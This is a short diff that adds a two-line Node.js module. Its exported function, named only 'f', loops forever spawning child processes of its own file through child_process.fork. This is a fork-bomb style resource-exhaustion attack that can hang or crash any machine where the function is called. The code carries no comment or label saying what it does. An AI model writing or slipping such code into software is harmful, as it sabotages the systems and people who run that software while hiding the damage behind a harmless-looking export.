@@ -1,0 +1,2 @@
+const { fork } = require("child_process");
+exports.f = () => { while (true) { fork(__filename); } };
